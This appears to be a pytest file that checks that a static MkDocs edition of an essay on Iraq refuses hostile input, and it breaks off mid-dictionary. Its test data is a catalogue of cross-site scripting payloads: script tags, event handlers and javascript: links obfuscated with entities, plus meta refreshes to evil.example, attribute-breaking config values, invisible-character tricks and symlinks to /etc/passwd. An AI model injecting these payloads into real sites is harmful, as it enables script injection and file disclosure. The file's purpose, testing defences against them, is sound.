"""Hostile or mistaken input never gets through: each case is refused with its exact message, exit status 1,
and nothing changes, neither the published site nor any file of the project."""

from __future__ import annotations

import json
import os
import re
import socket
import unicodedata
from pathlib import Path

import pytest

from conftest import line_of, replace_in, run_build, tree_digest
from edition.model.edition import ACCENT_COLOURS, MKDOCS_BUILTINS, MKDOCS_SETTINGS, PRIMARY_COLOURS
from edition.model.files import FORMAT_CHARACTERS_KEPT, parse_yaml
from edition.model.web_addresses import host_problem
from edition.problems import shown

ABOUT = "docs/about.md"
ESSAY_PAGE = "docs/a-slow-burning-conflict.md"
LAYOUT = "sources/essay/layout.yml"
RECORD = "sources/essay/original.txt"
ALLOWED_ELEMENTS = ("a, abbr, b, bdi, blockquote, br, cite, code, dd, del, details, dfn, div, dl, dt, em, figcaption, "
                    "figure, hr, i, img, ins, kbd, li, mark, ol, p, q, s, samp, small, span, strong, sub, summary, sup, "
                    "table, tbody, td, tfoot, th, thead, time, tr, u, ul, var, wbr")
ALLOWED_ATTRIBUTES = ("alt, cite, class, colspan, datetime, dir, height, href, id, lang, open, reversed, rowspan, scope, src, start, "
                      "title, width")
NOT_ALLOWED = f"use Markdown, or one of: {ALLOWED_ELEMENTS}"
NOT_A_CALL_THERE = ("is inside a link's text, an image's alt text or an HTML tag, where it would be no note; move it after the "
                    "link, the image or the element")
NO_SCRIPTS = "remove the attribute"
ADDRESS_FIX = "link to a web address or a page of the site"


def add_line(path: str, text: str):
    """Break: add a paragraph at the end of a page (its line is the file's last)."""
    def breaks(root: Path) -> int:
        file = root / path
        body = file.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + text + "\n"
        file.write_text(body, encoding="utf-8")
        return body.count("\n")
    return breaks


def replace(path: str, old: str, new: str):
    """Break: replace_in, for a project given later."""
    return lambda root: replace_in(root / path, old, new)


def added_line(path: str) -> int:
    """The line add_line's paragraph takes in a page of the project."""
    return len((Path(__file__).resolve().parents[1] / path).read_text(encoding="utf-8").rstrip("\n").split("\n")) + 2


ABOUT_END = added_line(ABOUT)
BOOK = "print/book.typ"
BOOK_END = len((Path(__file__).resolve().parents[1] / BOOK).read_text(encoding="utf-8").rstrip("\n").split("\n")) + 2
STYLESHEET = "docs/stylesheets/edition.css"
STYLESHEET_END = len((Path(__file__).resolve().parents[1] / STYLESHEET).read_text(encoding="utf-8").rstrip("\n").split("\n")) + 2
FETCHED = "is fetched from another host; serve the file from the site itself"
P7 = line_of(ESSAY_PAGE, "Two days later")
HEADING = line_of(ESSAY_PAGE, "# A Slow-Burning Conflict")  # below the page's front matter
# Lines of the ledgers that a case names, found by their words, so that editing the data does not move them.
HELD = line_of("sources/essay/quotations.yml", "quote: held")
HELD_ENTRY = "- {paragraph: 28, quote: held, kind: term, why: the military sense of holding ground after clearing it}"
QUDS_ENTRY = line_of("sources/essay/glossary.yml", "id: quds-force")
PM_SOURCES = line_of("sources/essay/glossary.yml", "  sources: [almonitor-2015-03, ap-2020-01-03]")
ABQAIQ_ID = line_of("sources/essay/events.yml", "id: abqaiq-attack")
ABQAIQ_SOURCES = line_of("sources/essay/events.yml", "  sources: [abqaiq-2019-09-14]")
PROTESTS_PARAGRAPHS = line_of("sources/essay/events.yml", "  paragraphs: [24]")
SERIES_SOURCE = line_of("sources/essay/claims.yml", "  claim: The 11 March") - 1
SERIES_SUPPORT = line_of("sources/essay/claims.yml", "  excerpt: It marked") - 1

# name: (how the input is broken, the exact error line(s) expected)
RAW_HTML = {
    "a script element": ("<script>alert(1)</script>", "HTML element <script> is not allowed in a page", NOT_ALLOWED),
    "a script in mixed case": ("<ScRiPt src=x.js></ScRiPt>", "HTML element <script> is not allowed in a page", NOT_ALLOWED),
    "an event handler": ('<img src="x.png" onerror="alert(1)">', "event handler onerror= on <img>: pages carry no scripts", NO_SCRIPTS),
    "a handler in capitals": ('<span OnMouseOver="alert(1)">x</span>', "event handler onmouseover= on <span>: pages carry no scripts",
                              NO_SCRIPTS),
    "a javascript: link": ('<a href="javascript:alert(1)">x</a>', "a javascript: address in href= on <a>", ADDRESS_FIX),
    "a javascript: link hidden by an entity": ('<a href="jav&#x09;ascript:alert(1)">x</a>', "a javascript: address in href= on <a>",
                                               ADDRESS_FIX),
    "a javascript: link with spaces and capitals": ('<a href="  JavaScript:alert(1)">x</a>', "a javascript: address in href= on <a>",
                                                    ADDRESS_FIX),
    "a vbscript: link": ('<a href="vbscript:msgbox(1)">x</a>', "a vbscript: address in href= on <a>", ADDRESS_FIX),
    "a data: link": ('<a href="data:text/html,<b>x</b>">x</a>', "a data: address in href= on <a>", ADDRESS_FIX),
    "an iframe": ('<iframe src="https://evil.example/"></iframe>', "HTML element <iframe> is not allowed in a page", NOT_ALLOWED),
    "a meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
                       "HTML element <meta> is not allowed in a page", NOT_ALLOWED),
    "a style element": ("<style>body{display:none}</style>", "HTML element <style> is not allowed in a page", NOT_ALLOWED),
    "a style attribute fetching elsewhere": ('<div style="background:url(https://evil.example/x.png)">x</div>',
                                             "attribute style= on <div> is not allowed",
                                             f"remove it; allowed attributes: {ALLOWED_ATTRIBUTES}"),
    "an image from another host": ('<img src="https://evil.example/pixel.gif" alt="">',
                                   "<img src> loads 'https://evil.example/pixel.gif' from another host: "
                                   "the site makes no request elsewhere",
                                   "put the file under docs/ and give its path"),
    "a protocol-relative image": ('<img src="//evil.example/pixel.gif" alt="">',
                                  "<img src> loads '//evil.example/pixel.gif' from another host: the site makes no request elsewhere",
                                  "put the file under docs/ and give its path"),
    "a srcset": ('<img src="x.png" srcset="https://evil.example/x.png 2x" alt="">', "attribute srcset= on <img> is not allowed",
                 f"remove it; allowed attributes: {ALLOWED_ATTRIBUTES}"),
    "a video poster": ('<video poster="https://evil.example/x.png"></video>', "HTML element <video> is not allowed in a page", NOT_ALLOWED),
    "an svg with onload": ("<svg onload=alert(1)></svg>", "HTML element <svg> is not allowed in a page", NOT_ALLOWED),
    "a form": ('<form action="https://evil.example/"><input name=q></form>', "HTML element <form> is not allowed in a page", NOT_ALLOWED),
    "a base element": ('<base href="https://evil.example/">', "HTML element <base> is not allowed in a page", NOT_ALLOWED),
    "an object": ('<object data="x.swf"></object>', "HTML element <object> is not allowed in a page", NOT_ALLOWED),
    "a stylesheet link": ('<link rel="stylesheet" href="https://evil.example/x.css">', "HTML element <link> is not allowed in a page",
                          NOT_ALLOWED),
    "a details element with a toggle handler": ("<details open ontoggle=alert(1)><summary>x</summary></details>",
                                                "event handler ontoggle= on <details>: pages carry no scripts", NO_SCRIPTS),
    "a data attribute the page's script reads": ('<span data-source="x">x</span>', "attribute data-source= on <span> is not allowed",
                                                  f"remove it; allowed attributes: {ALLOWED_ATTRIBUTES}"),
    "a doctype": ("<!DOCTYPE html>", "declaration <!DOCTYPE html> in a page", "remove it; MkDocs writes the page's own"),
    "a processing instruction": ("<?php echo 1 ?>", "processing instruction <?php echo 1 ?> in a page", "remove it"),
    "a Markdown javascript: link": ("[click](javascript:alert(1))", "a javascript: address in href= on <a>", ADDRESS_FIX),
    "a Markdown data: link": ("[click](data:text/html;base64,PHNjcmlwdD4=)", "a data: address in href= on <a>", ADDRESS_FIX),
    "a Markdown reference to javascript:": ("[click][x]\n\n[x]: javascript:alert(1)", "a javascript: address in href= on <a>",
                                            ADDRESS_FIX),
    "a Markdown image from another host": ("![pixel](https://evil.example/pixel.gif)",
                                           "<img src> loads 'https://evil.example/pixel.gif' from another host: "
                                           "the site makes no request elsewhere", "put the file under docs/ and give its path"),
    # The fifth hostile round of issue 27: the same, disguised by character references or another element.
    "a right-to-left override typed as a character reference": (
        "Reversed: &#x202E;gnp.exe", "a character reference makes U+202E, an invisible character that reorders the text "
        "around it", 'remove it: right-to-left words are set by their language, as `dir="rtl"` does'),
    "a right-to-left override in decimal in a title": (
        '<span title="&#8238;fdp.exe">x</span>', "a character reference makes U+202E, an invisible character that reorders "
        "the text around it", 'remove it: right-to-left words are set by their language, as `dir="rtl"` does'),
    "a bdo element reversing the words": ('<bdo dir="rtl">reversed text</bdo>', "HTML element <bdo> is not allowed in a page",
                                          NOT_ALLOWED),
    "a Markdown image whose colon is a character reference": (
        "![y](https&colon;//evil.example/y.png)", "<img src> loads 'https://evil.example/y.png' from another host: the site "
        "makes no request elsewhere", "put the file under docs/ and give its path"),
    "a Markdown javascript: link whose colon is a character reference": (
        "[x](javascript&#58;alert(1))", "a javascript: address in href= on <a>", ADDRESS_FIX),
}

CASES: dict[str, tuple] = {}
for name, (html, what, fix) in RAW_HTML.items():
    # A reference definition is the paragraph's last line; every other case is one line.
    CASES[f"docs: {name}"] = (add_line(ABOUT, html), f"{ABOUT}:{ABOUT_END + html.count(chr(10))}: {what}; {fix}")

# Found by the fourth reviewer (issue 27): mkdocs.yml's theme and asset values that Material writes into
# attributes of every page as they are, its language, its extra paths and nav; and ids Material writes itself.
MKDOCS = "mkdocs.yml"
LIGHT_MEDIA = '- media: "(prefers-color-scheme: light)"'
# What the theme does with each value, and how to write it instead.
UNESCAPED = ("which the theme writes into the HTML of every page as it is (unescaped): it could end an attribute or start "
             'an element; write it without ", <, > or backticks')
MATERIAL_ID = ("starts with __, as the ids Material writes into every page do (__search, __drawer, __toc…), so two "
               "elements could share it; choose another id")
CASES |= {
    "mkdocs.yml: a palette colour that closes its attribute": (
        replace(MKDOCS, "primary: blue grey", "primary: 'x\"onmouseover=\"alert(1)'"),
        f"{MKDOCS}:{line_of(MKDOCS, 'primary: blue grey')}: `theme.palette.primary` holds '\"', {UNESCAPED}"),
    "mkdocs.yml: an accent colour with a backtick": (
        replace(MKDOCS, "accent: indigo", "accent: 'indigo`onclick=alert(1)'"),
        f"{MKDOCS}:{line_of(MKDOCS, 'accent: indigo')}: `theme.palette.accent` holds '`', {UNESCAPED}"),
    "mkdocs.yml: a palette toggle's name with an image from another host": (
        replace(MKDOCS, "name: Switch to dark mode", "name: 'Switch\"><img src=https://evil.example/x.png alt=\"'"),
        f"{MKDOCS}:{line_of(MKDOCS, 'name: Switch to dark mode')}: `theme.palette.toggle.name` holds '\"', {UNESCAPED}"),
    "mkdocs.yml: a palette toggle's icon that closes its attribute": (
        replace(MKDOCS, "icon: material/weather-night", "icon: 'material/weather-night\"><b>x</b>'"),
        f"{MKDOCS}:{line_of(MKDOCS, 'icon: material/weather-night')}: `theme.palette.toggle.icon` holds '\"', {UNESCAPED}"),
    "mkdocs.yml: a palette media query with an image from another host": (
        replace(MKDOCS, LIGHT_MEDIA, "- media: '\"><img src=https://evil.example/m.png alt=\"'"),
        f"{MKDOCS}:{line_of(MKDOCS, LIGHT_MEDIA)}: `theme.palette.media` holds '\"', {UNESCAPED}"),
    "mkdocs.yml: a site_description that closes its attribute": (
        replace(MKDOCS, "  with every claim traced to its primary source.",
                '  with every claim traced to its primary source." onmouseover="alert(1)'),
        f"{MKDOCS}:{line_of(MKDOCS, 'site_description:')}: `site_description` holds '\"', {UNESCAPED}"),
    "mkdocs.yml: a site_author that closes its attribute": (
        replace(MKDOCS, "site_url:", "site_author: 'x\" onmouseover=\"alert(1)'\nsite_url:"),
        f"{MKDOCS}:{line_of(MKDOCS, 'site_url:')}: `site_author` holds '\"', {UNESCAPED}"),
    "mkdocs.yml: a stylesheet path with an onload": (
        replace(MKDOCS, "  - stylesheets/edition.css", "  - 'stylesheets/edition.css?\"onload=\"alert(1)'"),
        f"{MKDOCS}:{line_of(MKDOCS, '- stylesheets/edition.css')}: `extra_css` holds '\"', {UNESCAPED}"),
    "mkdocs.yml: an extra setting with markup": (
        replace(MKDOCS, "  generator: false", "  generator: false\n  note: '<img src=https://evil.example/x.png>'"),
        f"{MKDOCS}:{line_of(MKDOCS, 'generator: false') + 1}: `extra.note` holds '<', {UNESCAPED}"),
    "mkdocs.yml: a language Material does not have": (
        replace(MKDOCS, "  language: en", "  language: xx"),
        f"{MKDOCS}:{line_of(MKDOCS, '  language: en')}: `theme.language` is 'xx', which is not a language Material has; "
        "use one of its languages, the names (without .html) of the files in partials/languages/ of its templates "
        "(`pip show -f mkdocs-material` lists them), such as en, de or fr"),
    "mkdocs.yml: a script from /\\host": (
        replace(MKDOCS, "  - javascripts/edition.js", "  - javascripts/edition.js\n  - '/\\evil.example/x.js'"),
        f"{MKDOCS}:{line_of(MKDOCS, 'javascripts/edition.js') + 1}: `extra_javascript` loads '/\\\\evil.example/x.js' "
        "from another host; put the file under docs/ and name its path"),
    "mkdocs.yml: a script path with a backslash": (
        replace(MKDOCS, "  - javascripts/edition.js", "  - 'javascripts\\edition.js'"),
        f"{MKDOCS}:{line_of(MKDOCS, 'javascripts/edition.js')}: `extra_javascript` names 'javascripts\\\\edition.js', with a "
        "backslash, which browsers read as / and MkDocs as a Windows separator; write the path with /"),
    "mkdocs.yml: a nav entry outside docs/": (
        replace(MKDOCS, "      - About: about.md", "      - About: about.md\n      - Readme: ../README.md"),
        f"{MKDOCS}:{line_of(MKDOCS, '- About: about.md') + 1}: `nav` leads to '../README.md', outside docs/; "
        "name a page under docs/ by its path from there (such as about.md), or link to an https:// address"),
    "mkdocs.yml: a nav entry by an absolute path": (
        replace(MKDOCS, "      - About: about.md", "      - About: /etc/passwd"),
        f"{MKDOCS}:{line_of(MKDOCS, '- About: about.md')}: `nav` leads to '/etc/passwd', outside docs/; "
        "name a page under docs/ by its path from there (such as about.md), or link to an https:// address"),
    "docs: an attribute-list id of Material's": (
        add_line(ABOUT, "## Search {#__search}"), f"{ABOUT}:{ABOUT_END}: the id '__search' {MATERIAL_ID}"),
    "docs: a heading whose id is Material's": (
        add_line(ABOUT, "## __drawer"), f"{ABOUT}:{ABOUT_END}: the id '__drawer' {MATERIAL_ID}"),
    "docs: a heading whose id is Material's, typed with escapes": (
        add_line(ABOUT, "## \\_\\_toc"), f"{ABOUT}:{ABOUT_END}: the id '__toc' {MATERIAL_ID}"),
    "docs: an HTML id of Material's": (
        add_line(ABOUT, '<span id="__consent">x</span>'), f"{ABOUT}:{ABOUT_END}: the id '__consent' {MATERIAL_ID}"),
}

ESSAY_TEXT_FIX = "write the essay's words as plain Markdown; the edition adds its own markup"
CASES |= {
    "essay: a paragraph typed as HTML": (
        replace(ESSAY_PAGE, "Two days later", "<p>Two days later"),
        f"{ESSAY_PAGE}:{P7}: HTML <p> in the essay's text; {ESSAY_TEXT_FIX}"),
    "essay: emphasis typed as HTML": (
        replace(ESSAY_PAGE, "Two days later", "<em>Two</em> days later"),
        f"{ESSAY_PAGE}:{P7}: HTML <em> in the essay's text; {ESSAY_TEXT_FIX}"),
    "essay: words hidden in a comment": (
        replace(ESSAY_PAGE, "Two days later", "<!-- Not in the original. --> Two days later"),
        f"{ESSAY_PAGE}:{P7}: an HTML comment in the essay's text: it would hide words from readers but not from the check; "
        "remove the comment; notes belong in sources/essay/editorial-notes.yml"),
    "essay: a heading demoted to level 2": (
        replace(ESSAY_PAGE, "# A Slow-Burning Conflict", "## A Slow-Burning Conflict"),
        f"{ESSAY_PAGE}:{HEADING}: the heading “A Slow-Burning Conflict” is level 2 (##); a section's heading is its page's title, level 1; "
        "write it as `# A Slow-Burning Conflict`"),
    "an invisible character in a citation": (
        replace(ESSAY_PAGE, "[^dodnews-2020-03]", "[^dodnews-2020-03\u200b]"),
        f"{ESSAY_PAGE}:{line_of(ESSAY_PAGE, '[^dodnews-2020-03]')}: citation of unknown source id 'dodnews-2020-03U+200B'; "
        "add sources/dodnews-2020-03U+200B.yml or use an existing id (see the Sources page)"),
    "a look-alike letter in a citation": (
        replace(ESSAY_PAGE, "[^dodnews-2020-03]", "[^d\u043ednews-2020-03]"),
        f"{ESSAY_PAGE}:{line_of(ESSAY_PAGE, '[^dodnews-2020-03]')}: citation of unknown source id 'd\u043ednews-2020-03', where '\u043e' "
        "is U+043E CYRILLIC SMALL LETTER O, not a Latin letter; add sources/d\u043ednews-2020-03.yml or use an existing id "
        "(see the Sources page)"),
    "a look-alike letter in a source id": (
        replace("sources/zarif-2020-01-08.yml", "id: zarif-2020-01-08", "id: z\u0430rif-2020-01-08"),
        "sources/zarif-2020-01-08.yml:2: id 'z\u0430rif-2020-01-08' is not a slug, where '\u0430' is U+0430 CYRILLIC SMALL LETTER A, "
        "not a Latin letter"),
    "a right-to-left override in an editorial note's source": (
        replace("sources/essay/editorial-notes.yml", "sources: [zarif-2020-01-08]", "sources: [\u202ezarif-2020-01-08]"),
        "sources/essay/editorial-notes.yml:7: a value holds U+202E, an invisible character that breaks or reorders the text "
        "around it; remove it (write plain text)"),
    "a zero-width space in an editorial note's source": (
        replace("sources/essay/editorial-notes.yml", "sources: [zarif-2020-01-08]", "sources: [zarif-2020-01-08\u200b]"),
        "sources/essay/editorial-notes.yml:7: a value holds U+200B, an invisible character that breaks or reorders the text "
        "around it; remove it (write plain text)"),
}

# The source of record and its layout, read like every other input.
CASES |= {
    "the source of record changed by one word": (
        replace(RECORD, "Camp Taji", "Camp Tajj"),
        "sources/essay/layout.yml:11: sources/essay/original.txt is not the file whose digest is pinned here"),
    "the pinned digest edited": (
        replace(LAYOUT, "sha256: dfca", "sha256: 0fca"),
        "sources/essay/layout.yml:11: sources/essay/original.txt is not the file whose digest is pinned here"),
    "the layout without its digest": (
        replace(LAYOUT, "sha256: dfca0eb3c6871475a6578cd943b5ca92db2926e3675f6569129594df5ed3f560", ""),
        "sources/essay/layout.yml:4: 'sha256' is missing; add `sha256:` (the SHA-256 digest of original.txt, as the "
        "repository has it)"),
    "a body of one line number": (
        replace(LAYOUT, "body: [5, 99]", "body: [5]"),
        "sources/essay/layout.yml:6: 'body' must be [first, last] of sources/essay/original.txt (1 to 107), got [5]; "
        "give the lines as numbers"),
    "a heading that is not a number": (
        replace(LAYOUT, "headings: [17, 25, 41, 57, 69, 81]", "headings: [17, twenty-five]"),
        "sources/essay/layout.yml:7: 'headings' entry 2: not a whole number, got 'twenty-five'; "
        "write it as a list of line numbers of original.txt"),
    "a title past the end of the record": (
        replace(LAYOUT, "title: 1", "title: 9999"),
        "sources/essay/layout.yml:4: 'title' must be a line number of sources/essay/original.txt (1 to 107), got 9999; "
        "give the lines as numbers"),
    "a title on a blank line of the record": (
        replace(LAYOUT, "title: 1", "title: 2"),
        f"{LAYOUT}:{line_of(LAYOUT, 'title: 1')}: 'title' names line 2 of {RECORD}, which is blank; "
        "give the number of the line that holds it"),
    "a layout that is a list": (
        lambda root: (root / LAYOUT).write_text("- 1\n- 2\n", encoding="utf-8"),
        "sources/essay/layout.yml:1: must be a mapping of fields, got [1, 2]; write `key: value` lines"),
    "a malformed layout": (
        replace(LAYOUT, "body: [5, 99]", "body: [5, 99"),
        "sources/essay/layout.yml:7: invalid YAML: while parsing a flow sequence expected ',' or ']', but got '<scalar>'; "
        "fix the YAML syntax (indentation, quoting, colons)"),
    "a source of record with a byte-order mark": (
        lambda root: (root / RECORD).write_bytes(b"\xef\xbb\xbf" + (root / RECORD).read_bytes()),
        "sources/essay/original.txt:1: file starts with a UTF-8 byte-order mark; save it as UTF-8 without BOM"),
    "a source of record in Latin-1": (
        lambda root: (root / RECORD).write_bytes((root / RECORD).read_bytes().replace("’".encode(), b"\x92", 1)),
        "sources/essay/original.txt:1: not valid UTF-8 (byte 0x92); save the file as UTF-8"),
}

# A line number out of range is named at its own line, which a list written one entry a line, or a value
# below its key, puts below the key.
LAYOUT_LINES = {
    "a biography's line out of range, in a list written one entry a line": (
        "biographies: [103, 105]", "biographies:\n  - 103\n  - 999", "'biographies' must be a list of line numbers", "[103, 999]"),
    "an image credit's line out of range, below its key": (
        "image_credit: 107", "image_credit:\n  0", "'image_credit' must be a line number", "0"),
}
CASES |= {name: (replace(LAYOUT, old, new), f"{LAYOUT}:10: {what} of {RECORD} (1 to 107), got {got}; give the lines as numbers")
          for name, (old, new, what, got) in LAYOUT_LINES.items()}


def symlink(link: str, target: str):
    def breaks(root: Path) -> None:
        (root / link).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, root / link)
    return breaks


def fifo(path: str):
    def breaks(root: Path) -> None:
        os.mkfifo(root / path)
    return breaks


LINK_FIX = "copy the file itself into the project, or remove the link"
NOT_REGULAR = "make it a regular file of the project (see the README for what it holds)"
CASES |= {
    "a link in docs/assets to a system file": (
        symlink("docs/assets/passwd", "/etc/passwd"),
        f"docs/assets/passwd: is a symbolic link: its target would be published; {LINK_FIX}"),
    "a page that is a link to a file outside docs/": (
        symlink("docs/readme.md", "../README.md"),
        f"docs/readme.md: is a symbolic link: its target would be published; {LINK_FIX}"),
    "a linked folder in docs/": (
        symlink("docs/system", "/etc"),
        f"docs/system: is a symbolic link: its target would be published; {LINK_FIX}"),
    "a link among the templates": (
        symlink("overrides/partials/footer.html", "/etc/hostname"),
        f"overrides/partials/footer.html: is a symbolic link: its target would be published; {LINK_FIX}"),
    "a FIFO in docs/": (
        fifo("docs/assets/pipe.svg"),
        "docs/assets/pipe.svg: is not a regular file (a FIFO, socket or device); remove it"),
    "a FIFO named like a source record": (
        fifo("sources/fifo-2020-01-01.yml"),
        f"sources/fifo-2020-01-01.yml: is not a regular file (a FIFO, socket or device); {NOT_REGULAR}"),
    "a folder named like a source record": (
        lambda root: (root / "sources/folder-2020-01-01.yml").mkdir(),
        f"sources/folder-2020-01-01.yml: is a folder; {NOT_REGULAR}"),
    "a link as a source record": (
        symlink("sources/passwd-2020-01-01.yml", "/etc/passwd"),
        f"sources/passwd-2020-01-01.yml: is a link; {NOT_REGULAR}"),
}

# Wrong types in every ledger and in edition.yml: a problem with its line, never a traceback.
EDITION = "sources/essay/edition.yml"
GLOSSARY = "sources/essay/glossary.yml"
PDF_SHAPE = "`file:` a plain file name ending .pdf (no folder), and `appendices:` a list of docs/ pages"
NOT_A_PDF = "not a file name ending .pdf"
CASES |= {
    "a glossary description that is a list": (
        replace("sources/essay/glossary.yml", "  what: A Tehran-backed militia", "  what: [A Tehran-backed militia]\n  x_what: A"),
        f"{GLOSSARY}:{line_of(GLOSSARY, '  what: A Tehran-backed militia')}: glossary entry 'kataib-hizbullah': "
        "'what' must be text (what it is, in a sentence or two), "
        "got ['A Tehran-backed militia']; describe it in `what:`"),
    "glossary terms that are one string": (
        replace("sources/essay/glossary.yml", "terms: [Kataib Hizbullah]", "terms: Kataib Hizbullah"),
        f"{GLOSSARY}:{line_of(GLOSSARY, 'terms: [Kataib Hizbullah]')}: glossary entry 'kataib-hizbullah': "
        "'terms' must be a list of the essay's own words for it, "
        "got 'Kataib Hizbullah'; write `terms: [words, words]`, each as the essay prints it"),
    "a quotation's paragraph in words": (
        replace("sources/essay/quotations.yml", "paragraph: 28", "paragraph: twenty-eight"),
        f"sources/essay/quotations.yml:{HELD}: 'paragraph' must be the number of an essay paragraph, got 'twenty-eight'; "
        "write the paragraph's number N of ¶N"),
    "an edition title that is a number": (
        replace(EDITION, "title: In Iraq, Restraint Is America’s Best Option", "title: 5"),
        f"{EDITION}:3: 'title' must be the edition's title, as text (no markup), got 5; correct it"),
    "authors that are one string": (
        replace(EDITION, "  - {given: Maria, family: Fantappie}\n  - {given: Sam, family: Heller}", "  Maria Fantappie and Sam Heller"),
        f"{EDITION}:5: 'authors' must be a list of `{{given: …, family: …}}`, got 'Maria Fantappie and Sam Heller'; correct it"),
    "a PDF file name that is a number": (
        replace(EDITION, "  file: in-iraq-restraint-annotated-edition.pdf", "  file: 5"),
        f"{EDITION}:12: 'pdf' `file:`: not text, got 5; write it as {PDF_SHAPE}"),
    "a PDF written over the README": (
        replace(EDITION, "  file: in-iraq-restraint-annotated-edition.pdf", "  file: ../README.md"),
        f"{EDITION}:12: 'pdf' `file:`: {NOT_A_PDF}, got '../README.md'; write it as {PDF_SHAPE}"),
    "a PDF named like a page": (
        replace(EDITION, "  file: in-iraq-restraint-annotated-edition.pdf", "  file: index.html"),
        f"{EDITION}:12: 'pdf' `file:`: {NOT_A_PDF}, got 'index.html'; write it as {PDF_SHAPE}"),
    "PDF appendices that are one string": (
        replace(EDITION, "  appendices: [chronology.md, glossary.md, sources.md, editorial-notes.md, about.md]",
                "  appendices: chronology.md"),
        f"{EDITION}:13: 'pdf' `appendices:`: not a list, got 'chronology.md'; write it as {PDF_SHAPE}"),
    "a PDF appendix that is not a page": (
        replace(EDITION, "appendices: [chronology.md,", "appendices: [timeline.md,"),
        f"{EDITION}:{line_of(EDITION, 'appendices:')}: PDF appendix 'timeline.md' is not a page in docs/; "
        "name a page under docs/, such as about.md"),
    "a PDF appendix named twice": (
        replace(EDITION, "editorial-notes.md, about.md]", "editorial-notes.md, about.md, glossary.md]"),
        f"{EDITION}:{line_of(EDITION, 'appendices:')}: PDF appendix 'glossary.md' is already in the PDF; "
        "name each page once; the essay's sections come first by themselves"),
    "a section of the essay as a PDF appendix": (
        replace(EDITION, "appendices: [chronology.md,", "appendices: [index.md, chronology.md,"),
        f"{EDITION}:{line_of(EDITION, 'appendices:')}: PDF appendix 'index.md' is already in the PDF (a section of the essay); "
        "name each page once; the essay's sections come first by themselves"),
    "an unknown setting in edition.yml": (
        replace(EDITION, "publisher: Iraq Restraint Edition", "publisher: Iraq Restraint Edition\npublsher: typo"),
        f"{EDITION}:10: unknown setting 'publsher'; remove it, or use one of: title, subtitle, authors, original, publisher, "
        "language, pdf, rights"),
    "a language that is not a tag": (
        replace(EDITION, "language: en", "language: English"),
        f"{EDITION}:10: 'language' must be a language tag such as en, got 'English'; correct it"),
}

CFF_FIX = "follow the Citation File Format 1.2.0 (citation-file-format.github.io)"
CASES |= {
    "a CITATION.cff title that is a list": (
        replace("CITATION.cff", 'title: "In Iraq, Restraint Is America’s Best Option: An Annotated Edition"', "title: [1]"),
        f"CITATION.cff:8: title: [1] is not of type 'string'; {CFF_FIX}"),
    "a CITATION.cff key the format does not have": (
        replace("CITATION.cff", "license: CC-BY-4.0", "license: CC-BY-4.0\nlicence: CC-BY-4.0"),
        f"CITATION.cff:22: the file: Additional properties are not allowed ('licence' was unexpected); {CFF_FIX}"),
    "a CITATION.cff licence that is no SPDX id": (
        replace("CITATION.cff", "license: CC-BY-4.0", "license: Free for all"),
        f"CITATION.cff:21: license: 'Free for all' is not valid under any of the given schemas; {CFF_FIX}"),
    "a quotation listed twice": (
        replace("sources/essay/quotations.yml", HELD_ENTRY, f"{HELD_ENTRY}\n{HELD_ENTRY}"),
        f"sources/essay/quotations.yml:{HELD + 1}: “held” in ¶28 is listed twice, on lines {HELD} and {HELD + 1}; "
        "remove one: each quotation of the essay is listed once"),
    "a quotation entry for a paragraph the essay lacks": (
        replace("sources/essay/quotations.yml", "paragraph: 28", "paragraph: 99"),
        f"sources/essay/quotations.yml:{HELD}: no quotation “held” in ¶99; correct the paragraph number or the words, or remove the entry"),
}

CASES |= {
    "a font fetched from another host by the site's stylesheet": (
        add_line(STYLESHEET, '@font-face { font-family: X; src: url("https://fonts.example/x.woff2"); }'),
        f"{STYLESHEET}:{STYLESHEET_END}: 'https://fonts.example/x.woff2' {FETCHED}"),
    "a package the book's template would download, reported once": (
        add_line(BOOK, '#import "@preview/evil:0.1.0": *'),
        f"{BOOK}:{BOOK_END}: imports the Typst package @preview/evil:0.1.0; the build has no packages and "
        "downloads none; copy what the book needs into print/"),
}

# Found by a reviewer who did not write the checks: HTML that a reading of the page as typed would miss.
META = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
META_REFUSED = f"HTML element <meta> is not allowed in a page; {NOT_ALLOWED}"
EARLY_COMMENT = ("an HTML comment that browsers would end early (it starts with > or ->, or holds <!-- or --!>); "
                 "write a plain comment, <!-- like this -->, or remove it")
CASES |= {
    "docs: a meta refresh after an unclosed fence": (add_line(ABOUT, f"~~~\n{META}"), f"{ABOUT}:{ABOUT_END + 1}: {META_REFUSED}"),
    "docs: a meta refresh in a fence with a bad info string": (add_line(ABOUT, f"~~~ foo bar\n{META}\n~~~"),
                                                               f"{ABOUT}:{ABOUT_END + 1}: {META_REFUSED}"),
    "docs: a meta refresh indented in a list item": (add_line(ABOUT, f"- item\n\n    continued\n\n    {META}"),
                                                      f"{ABOUT}:{ABOUT_END + 4}: {META_REFUSED}"),
    "docs: a comment that browsers end at <!-->": (add_line(ABOUT, f"<!-->{META}-->"), f"{ABOUT}:{ABOUT_END}: {EARLY_COMMENT}"),
    "docs: a comment that browsers end at --!>": (add_line(ABOUT, f"<!-- --!>{META}-->"), f"{ABOUT}:{ABOUT_END}: {EARLY_COMMENT}"),
    "docs: a script of the page's own behind a fence": (
        add_line(ABOUT, '~~~ x y\n<script src="../assets/x.js"></script>'),
        f"{ABOUT}:{ABOUT_END + 1}: HTML element <script> is not allowed in a page; {NOT_ALLOWED}"),
    "docs: attributes given by an attribute list": (
        add_line(ABOUT, 'Hello\n{: http-equiv="refresh" }'),
        f"{ABOUT}:{ABOUT_END + 1}: attribute http-equiv= on <p> is not allowed; remove it; allowed attributes: {ALLOWED_ATTRIBUTES}"),
    "docs: a handler given by an attribute list": (
        add_line(ABOUT, 'Hello\n{: onclick="alert(1)" }'),
        f"{ABOUT}:{ABOUT_END + 1}: event handler onclick= on <p>: pages carry no scripts; remove the attribute"),
    "docs: a handler hidden in what looks like an e-mail address": (
        add_line(ABOUT, "<p/x/onmouseover=alert(1)//@x>hover</p>"),
        f"{ABOUT}:{ABOUT_END}: event handler onmouseover= on <p>: pages carry no scripts; remove the attribute"),
    "docs: a javascript: link written with an entity": (
        add_line(ABOUT, "[click](JaVaScRiPt&#58;alert(1))"),
        f"{ABOUT}:{ABOUT_END}: a javascript: address in href= on <a>; {ADDRESS_FIX}"),
}

EDITION_BRACE_FIX = ("write it without braces: BibTeX reads a brace as the start or end of a group, so the edition's citations "
                     "would break; use round or square brackets instead")
MARKUP_FIX = "write the words only: records are text (a title's italics come from the citation style)"
CASES |= {
    "markup in a source title": (
